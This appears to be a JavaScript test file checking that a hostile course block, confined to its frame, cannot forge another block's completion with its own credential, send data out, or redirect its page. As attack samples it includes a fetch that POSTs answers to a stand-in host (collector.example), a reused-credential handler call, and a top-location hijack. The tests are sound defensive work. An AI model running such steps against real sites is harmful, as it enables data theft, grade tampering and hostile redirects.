// What a hostile block tries in its frame, beyond what isolation.test.js shows, and how each attempt ends.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { House, usage } from './harness.js';

let house;
before(async () => { house = await House.open(); });
after(() => house?.close());

test('row_206_a_frame_cannot_call_the_handler_of_another_block_with_its_own_credential', async () => {
  const alice = await house.person('alice');
  await alice.unit('welcome');
  const status = await alice.asBlock('been_to_the_sea', async (body, other) => {
    const credential = location.pathname.split('/')[3];
    const address = `${location.origin === 'null' ? new URL(location.href).origin : location.origin}/api/xblock/v2/xblocks/${other}/handler/${credential}/publish_completion`;
    const answer = await fetch(address, { method: 'POST', body: '{"completion": 1}' });
    return answer.status;
  }, usage('html', 'welcome'));
  assert.equal(status, 403);
  await alice.close();
});

test('a frame cannot send anything to another host', async () => {
  const alice = await house.person('alice');
  await alice.unit('welcome');
  const stopped = await alice.asBlock('been_to_the_sea', async () => {
    const directives = [];
    document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
    await fetch('https://collector.example/', { method: 'POST', body: 'answers' }).catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 0));
    return directives;
  });
  assert.deepEqual(stopped, ['connect-src']);
  await alice.close();
});

test('a frame cannot lead its page elsewhere', async () => {
  const alice = await house.person('alice');
  await alice.unit('welcome');
  const before = alice.page.url();
  const refused = await alice.asBlock('been_to_the_sea', () => {
    try {
      top.location.href = 'https://collector.example/';
      return false;
    } catch {
      return true;
    }
  });
  assert.equal(refused, true);
  assert.equal(alice.page.url(), before);
  await alice.close();
});
